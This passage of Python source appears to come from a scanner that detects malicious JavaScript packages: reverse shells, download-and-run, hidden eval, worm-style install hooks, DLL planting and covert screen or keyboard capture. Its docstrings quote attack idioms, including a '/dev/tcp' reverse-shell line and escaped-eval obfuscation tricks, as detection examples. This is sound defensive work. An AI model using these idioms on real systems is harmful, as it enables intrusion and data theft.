                        f"{scope.origin(label, label)} -> {callee}() (line {line})",
                        line,
                    )
                elif "host-info" in labels and callee not in CODE_SINKS and not self._is_process(callee):
                    self._add(
                        ThreatRule.HOST_INFO_EXFILTRATION,
                        f"{scope.origin('host-info', 'host information')} -> {callee}() (line {line})",
                        line,
                    )
            if (
                last in SQL_METHODS
                and args
                and not self._is_process(callee)
                and function.type == "member_expression"
            ):
                first = args[0]
                if _formatted(first) and "param" in self._labels_of(scope, first):
                    self._add(
                        ThreatRule.COMMAND_INJECTION,
                        f"{scope.origin('param', 'a tool argument')} -> SQL text built by "
                        f"formatting -> {callee}() (line {line})",
                        line,
                    )
            if callee in TEMPLATE_SINKS and args and "param" in self._labels_of(scope, args[0]):
                self._add(
                    ThreatRule.COMMAND_INJECTION,
                    f"{scope.origin('param', 'a tool argument')} -> template source -> {callee}() "
                    f"(line {line})",
                    line,
                )
        if {"socket", "shell"} <= marks and "reported" not in marks:
            marks.add("reported")
            socket_at = min(m.split(":", 1)[1] for m in marks if m.startswith("socket-at:"))
            shell_at = min(m.split(":", 1)[1] for m in marks if m.startswith("shell-at:"))
            line = int(shell_at.rsplit("line ", 1)[1].rstrip(")"))
            piped = "pipe" in marks
            self._add(
                ThreatRule.REMOTE_SHELL,
                f"a socket, {socket_at} -> a shell, {shell_at}" + (", their streams piped" if piped else ""),
                line,
                piped,
            )

    def _code_runner_as_value(self, node: Any) -> None:
        """``const run = eval``, ``[eval][0](code)``, ``list.map(eval)``, ``eval.call(null,
        code)``: the global ``eval`` handed on as a value, so the call that runs code does not
        read as one (``(0, eval)("this")``, the global object's idiom, is a sequence: not this)."""
        held: list[Any] = []
        if node.type == "variable_declarator":
            held = [node.child_by_field_name("value")]
        elif node.type == "assignment_expression":
            held = [node.child_by_field_name("right")]
        elif node.type == "call_expression":
            arguments = node.child_by_field_name("arguments")
            held = list(arguments.named_children[:32]) if arguments is not None else []
            function = node.child_by_field_name("function")
            if function is not None and function.type == "member_expression":
                prop = function.child_by_field_name("property")
                if prop is not None and _text(prop) in ("call", "apply", "bind"):
                    held.append(function.child_by_field_name("object"))
        elif node.type == "subscript_expression":
            owner = node.child_by_field_name("object")
            if owner is not None and owner.type == "array":
                held = list(owner.named_children[:32])
        for value in held:
            if value is not None and value.type == "identifier" and _text(value) == "eval":
                line = value.start_point[0] + 1
                self._add(ThreatRule.HIDDEN_CODE_RUN, f"eval handed on as a value (line {line})", line)
                return

    def _joined_dll(self, target: Any) -> str | None:
        """``path.join(os.tmpdir(), "version.dll")``: a DLL's name joined to a folder computed
        at run time that is not the package's own (no ``__dirname``, ``__filename`` or
        ``import.meta``); as ``<a folder of the machine's>/NAME``."""
        if target.type != "call_expression" or self.name(target.child_by_field_name("function")) not in (
            "path.join",
            "path.resolve",
            "join",
            "resolve",
        ):
            return None
        arguments = target.child_by_field_name("arguments")
        parts = [a for a in arguments.named_children if a.type != "comment"] if arguments is not None else []
        name = self.fold(parts[-1]) if parts else None
        if not name or not name.lower().endswith(".dll"):
            return None
        text = _text(target)
        if any(own in text for own in ("__dirname", "__filename", "import.meta", "process.cwd")):
            return None
        return f"<a folder of the machine's>/{name}"

    def _planted_hook(self, scope: _Scope, node: Any) -> None:
        """``{..., postinstall: "node x.js"}`` built where files are written: a package.json's
        install hook written into another package, how a worm runs again in the next one."""
        for pair in node.named_children[:64]:
            key = pair.child_by_field_name("key") if pair.type == "pair" else None
            if key is None or _text(key).strip("'\"") not in INSTALL_HOOK_KEYS:
                continue
            if any(
                child.type == "call_expression"
                and self.name(child.child_by_field_name("function")).rsplit(".", 1)[-1]
                in (
                    "writeFile",
                    "writeFileSync",
                    "writeJson",
                    "writeJsonSync",
                    "outputJson",
                    "outputJsonSync",
                )
                for child in scope.nodes
            ):
                line = pair.start_point[0] + 1
                self._add(
                    ThreatRule.SELF_PROPAGATION,
                    f"an install hook ({_text(key)[:20]}) written into a package.json (line {line})",
                    line,
                    False,
                )
            return

    def _tool_object(self, node: Any) -> None:
        """``{name, description, inputSchema}`` in a tools/list answer of the low-level API:
        its description goes through inspect like a registered tool's."""
        pairs = [c for c in node.named_children if c.type == "pair"]
        if not 3 <= len(pairs) <= 12:
            return
        keys = {_text(p.child_by_field_name("key")).strip("'\"") for p in pairs}
        if not {"name", "description"} <= keys or not keys & {"inputSchema", "input_schema"}:
            return
        name = self._pair(node, "name")
        description = self._pair(node, "description")
        if name and description:
            self.tools.append(ToolDeclaration(name, description, self.path, node.start_point[0] + 1))

    def _may_sink(self, callee: str, last: str) -> bool:
        return (
            callee in CODE_SINKS
            or callee in TIMERS
            or callee.startswith("vm.")
            or self._is_process(callee)
            or last.lower() in SINK_CALLS
            or last in ("write", "end", "connect", "lookup", "resolve", "resolveTxt")
            or last in SQL_METHODS
            or callee in TEMPLATE_SINKS
        )

    def _reflected(
        self, scope: _Scope, call: Any, function: Any, callee: str, args: list[Any], line: int
    ) -> None:
        """A function reached by a name given as data: ``Reflect.get(process, "spawn")``,
        ``Object.keys(os).find(n => n === "hostname")``, ``self[decode(x)](...)``."""
        if callee in REFLECTION and len(args) > 1:
            key = self.fold(args[1])
            if key in HIDDEN_NAMES:
                self._add(ThreatRule.HIDDEN_CODE_RUN, f"{callee}(…, {key!r}) (line {line})", line)
            return
        if function is None:
            return
        if function.type == "subscript_expression":
            owner = function.child_by_field_name("object")
            index = function.child_by_field_name("index")
            if (
                owner is not None
                and index is not None
                and _text(owner) in GLOBAL_NAMES
                and (
                    (index.type == "call_expression" and self._decoder(index))
                    or "decoded" in self._labels_of(scope, index, local=True)
                )
            ):
                self._add(
                    ThreatRule.HIDDEN_CODE_RUN,
                    f"{_text(owner)}[<a name computed at run time>]() (line {line})",
                    line,
                )
            return
        if function.type != "member_expression":
            return
        method = callee.rsplit(".", 1)[-1]
        if method not in ("find", "filter", "findIndex", "some"):
            return
        listing = function.child_by_field_name("object")
        hops = 0
        while (
            listing is not None
            and listing.type in ("subscript_expression", "member_expression")
            and hops < 16
        ):
            listing, hops = listing.child_by_field_name("object"), hops + 1
        if listing is None or listing.type != "call_expression":
            return
        if self.name(listing.child_by_field_name("function")) not in PROPERTY_LISTS:
            return
        for argument in args:
            for child in _walk(argument, 64):
                if child.type == "string" and self.fold(child) in HIDDEN_NAMES:
                    self._add(
                        ThreatRule.HIDDEN_CODE_RUN,
                        f"a property picked by comparing names with {self.fold(child)!r} (line {line})",
                        line,
                    )
                    return

    def _decoder(self, call: Any) -> bool:
        """A call that decodes: a decoding call, or a function of this file that decodes
        (character codes, base64), or one the file does not define (nothing says it does not)."""
        callee = self.name(call.child_by_field_name("function"))
        if callee in DECODING or callee == "Buffer.from":
            return True
        defined = self.named.get(callee, [])
        if not defined:
            return "." not in callee
        for scope in defined[:8]:
            for node in _walk(scope.node, 2000):
                if node.type == "call_expression":
                    name = self.name(node.child_by_field_name("function"))
                    if (
                        name in DECODING
                        or name == "Buffer.from"
                        or name.endswith((".charCodeAt", ".fromCharCode"))
                    ):
                        return True
        return False

    def _hidden_subscript(self, node: Any) -> None:
        """``global["ev" + "al"]``, ``require("child_process")["exec"]``: code run through a
        computed name."""
        index = node.child_by_field_name("index")
        owner = node.child_by_field_name("object")
        if index is None or owner is None:
            return
        key = self.fold(index)
        if key not in HIDDEN_NAMES:
            return
        owner_text = _text(owner) if owner.end_byte - owner.start_byte < 128 else ""
        computed = index.type != "string" or _escaped(index)
        if computed or owner_text in GLOBAL_OBJECTS or owner_text.startswith("require("):
            line = node.start_point[0] + 1
            self._add(ThreatRule.HIDDEN_CODE_RUN, f"{owner_text or '…'}[{key!r}] (line {line})", line)

    def _network_object(self, scope: _Scope, function: Any) -> bool:
        if function is None or function.type != "member_expression":
            return False
        owner = function.child_by_field_name("object")
        return owner is not None and "network" in self._labels_of(scope, owner)

    def _code_sink(self, scope: _Scope, callee: str, line: int, labels: set[str]) -> None:
        if "network" in labels:
            origin = scope.origin("network", "a network read")
            self._add(ThreatRule.DOWNLOAD_AND_RUN, f"{origin} -> {callee}() (line {line})", line)
        elif "decoded" in labels:
            origin = scope.origin("decoded", "decoded data")
            self._add(ThreatRule.DECODED_CODE_RUN, f"{origin} -> {callee}() (line {line})", line)
        elif "param" in labels:
            origin = scope.origin("param", "a tool argument")
            self._add(ThreatRule.COMMAND_INJECTION, f"{origin} -> {callee}() (line {line})", line)

    def _process_sink(self, scope: _Scope, callee: str, args: list[Any], line: int, labels: set[str]) -> None:
        # downloaded or decoded data is run when it is the command, or what an interpreter is
        # handed; as an argument of a fixed program (git remote add NAME URL) it is data
        command_labels = self._labels_of(scope, args[0]) if args else set()
        program = self._program(args[0]) if args else None
        ran = command_labels if program is None else (labels if runs_data(program) else set())
        if "network" in ran or "decoded" in ran:
            label = "network" if "network" in ran else "decoded"
            self._add(
                ThreatRule.DOWNLOAD_AND_RUN, f"{scope.origin(label, label)} -> {callee}() (line {line})", line
            )
        if not args:
            return
        method = callee.rsplit(".", 1)[-1]
        shell = method in SHELL_PROCESS or any(
            "shell: true" in _text(a).replace("'", "").replace('"', "")
            for a in args[1:]
            if a.type == "object"
        )
        if "param" in self._labels_of(scope, args[0]) and (
            shell or method not in ("spawn", "spawnSync", "execFile", "execFileSync", "fork")
        ):
            origin = scope.origin("param", "a tool argument")
            self._add(
                ThreatRule.COMMAND_INJECTION,
                f"{origin} -> {'shell ' if shell else ''}command of {callee}() (line {line})",
                line,
            )

    def _in_loop(self, node: Any) -> bool:
        current, hops = node.parent, 0
        while current is not None and hops < 12:
            if current.type in ("for_statement", "while_statement", "do_statement", "for_in_statement"):
                return True
            if current.type == "call_expression" and self.name(current.child_by_field_name("function")) in (
                "setInterval",
                "setTimeout",
            ):
                return True
            current, hops = current.parent, hops + 1
        return False

    # -- fixed texts -------------------------------------------------------------------------

    def _texts(self, scope: _Scope) -> None:
        acting: set[int] = set()
        for node in scope.nodes:
            if node.type == "call_expression":
                callee = self.name(node.child_by_field_name("function"))
                last = callee.rsplit(".", 1)[-1]
                if self._is_process(callee) or last in WRITE_METHODS or callee in CODE_SINKS:
                    acting.add(node.start_point[0] + 1)
        if not acting:
            return
        for node in scope.nodes:
            if node.type not in ("string", "template_string", "binary_expression", "identifier"):
                continue
            value = self.fold(node) or self._loose(node)
            if not value or len(value) < 4:
                continue
            line = node.start_point[0] + 1
            in_call = line in acting
            for rule, said in named_techniques(value, line, in_call):
                self._add(rule, said, line, in_call)

    def _loose(self, node: Any) -> str | None:
        """A template's text with each unknown substitution as ``x``: ``bash -i >& /dev/tcp/x/9001``
        says what it does whatever the host."""
        if node.type != "template_string":
            return None
        parts = []
        for child in node.named_children:
            if child.type == "template_substitution":
                inner = child.named_children[0] if child.named_children else None
                parts.append((self.fold(inner) if inner is not None else None) or "x")
            else:
                parts.append(_text(child))
        return "".join(parts)

    def _add(self, rule: ThreatRule, flow: str, line: int, reaches: bool = True, capture: str = "") -> None:
        if (rule, line) in self._seen:
            return
        self._seen.add((rule, line))
        self.threats.append(Threat(rule, flow, self.path, line, reaches, capture))

    def _capture(self, scope: _Scope, callee: str, last: str, args: list[Any], line: int) -> None:
        """Capture of the screen, the clipboard, the keyboard, or of host facts by running two
        or more of the commands that print them: ``covert-capture`` unless a tool of the
        package documents it (decided with the package's tools)."""
        root = callee.split(".", 1)[0]
        kind = ""
        if root.lower() == "clipboardy" and last.startswith("read"):
            kind = "clipboard"
        elif (root in SCREEN_OBJECTS and (callee == root or last in ("all", "capture"))) or callee.endswith(
            ("screen.capture", "desktopCapturer.getSources")
        ):
            kind = "screen"
        elif (
            root.lower() in KEYBOARD_OBJECTS
            and last in ("on", "addListener", "registerEvent")
            and args
            and (self.fold(args[0]) or "").lower() in ("keydown", "keyup", "keypress", "input")
        ) or callee in ("GlobalKeyboardListener", "GlobalKeyboardListener.addListener"):
            kind = "keyboard"
        elif self._is_process(callee) and args:
            command = self._command_text(args)
            if SCREEN_COMMAND.match(command):
                kind = "screen"
            elif command_output_label(command) == "host-info" and command.split():
                seen = self._host_commands.setdefault(id(scope), set())
                seen.add(command.split()[0].lower())
                if len(seen) >= 2:
                    self._add(
                        ThreatRule.COVERT_CAPTURE,
                        f"host facts collected by running {', '.join(sorted(seen)[:4])} (line {line})",
                        line,
                        capture="host",
                    )
        if kind:
            self._add(
                ThreatRule.COVERT_CAPTURE, f"{callee}() captures the {kind} (line {line})", line, capture=kind
            )


def _code_like(value: str | None) -> bool:
    """Folded text that reads as a call or a member of something: code, not a word."""
    return value is not None and len(value.strip()) >= 4 and ("(" in value or "." in value)


def _walk(node: Any, limit: int, skip: frozenset[str] = frozenset()) -> Iterator[Any]:
    """The nodes under ``node``, at most ``limit``; not inside nodes of the ``skip`` kinds
    (a function's body carries no value into the expression that defines it)."""
    cursor = node.walk()
    count = 0
    while True:
        current = cursor.node
        yield current
        count += 1
        if count >= limit:
            return
        if (count == 1 or current.type not in skip) and cursor.goto_first_child():
            continue
        while not cursor.goto_next_sibling():
            if not cursor.goto_parent() or cursor.node == node:
                return


def _text(node: Any) -> str:
    if node is None or node.end_byte - node.start_byte > 4096:
        return ""
    return str(node.text.decode("utf-8", errors="replace"))


def _identifiers(node: Any) -> list[str]:
    if node is None:
        return []
    if node.type in ("identifier", "shorthand_property_identifier_pattern", "this"):
        return [_text(node)]
    found = []
    for child in _walk(node, 256):
        if child.type in ("identifier", "shorthand_property_identifier_pattern"):
            found.append(_text(child))
    return found


def _root_object(node: Any) -> Any:
    """``a`` of ``a.b.c = v``: the object written to takes the value's labels."""
    hops = 0
    while node is not None and node.type in ("member_expression", "subscript_expression") and hops < 16:
        node = node.child_by_field_name("object")
        hops += 1
    return node


def _parameters(function: Any) -> list[str]:
    single = function.child_by_field_name("parameter")
    if single is not None:
        return _identifiers(single)
    parameters = function.child_by_field_name("parameters")
    return _identifiers(parameters) if parameters is not None else []


def _formatted(node: Any) -> bool:
    if node.type == "template_string":
        return any(child.type == "template_substitution" for child in node.named_children)
    return bool(node.type == "binary_expression")


def _taken_whole(node: Any) -> bool:
    """``process.env`` passed as a value: a request's argument, an object's field (not the
    ``env`` a child process is given), a list's item, a template's substitution."""
    parent = node.parent
    if parent is None:
        return False
    if parent.type == "pair":
        key = parent.child_by_field_name("key")
        return parent.child_by_field_name("value") == node and _text(key).strip("'\"") not in (
            "env",
            "environment",
        )
    if parent.type == "arguments":
        call = parent.parent
        function = call.child_by_field_name("function") if call is not None else None
        last = _text(function).rsplit(".", 1)[-1].lower() if function is not None else ""
        return last in SINK_CALLS
    return parent.type in ("array", "template_substitution")


def _escaped(node: Any) -> bool:
    """A string literal written mostly in escapes: ``"\\x65\\x76\\x61\\x6c"``."""
    if node.type != "string" or node.end_byte - node.start_byte > 4096:
        return False
    text = node.text or b""
    escapes = _ESCAPES.findall(text)
    return len(escapes) >= 3 and sum(len(e) for e in escapes) * 2 >= len(text)


def _unpacker(node: Any) -> bool:
    """``eval(function (p, a, c, k, e, d) {...}(...))``: the code is what an inline function
    returns when it runs (a packer's unpacking stub)."""
    hops = 0
    while node is not None and node.type == "parenthesized_expression" and hops < 8:
        node = node.named_children[0] if node.named_children else None
        hops += 1
    if node is None or node.type != "call_expression":
        return False
    function = node.child_by_field_name("function")
    hops = 0
    while function is not None and function.type == "parenthesized_expression" and hops < 8:
        function = function.named_children[0] if function.named_children else None
        hops += 1
    return function is not None and function.type in FUNCTIONS


def _carries(node: Any) -> bool:
    """Whether a returned value can carry a label (a literal or a function cannot)."""
    if node is None or node.type in INERT_VALUES:
        return False
    return node.type != "string" or names_credential_store(_text(node).strip("'\"`"))


def _text_like(node: Any, name: Callable[[Any], str]) -> bool:
    """A value that is text rather than a function: a name, a literal, a concatenation, a
    decoding call."""
    if node.type in ("identifier", "string", "template_string", "binary_expression"):
        return True
    return node.type == "call_expression" and name(node.child_by_field_name("function")) in DECODING
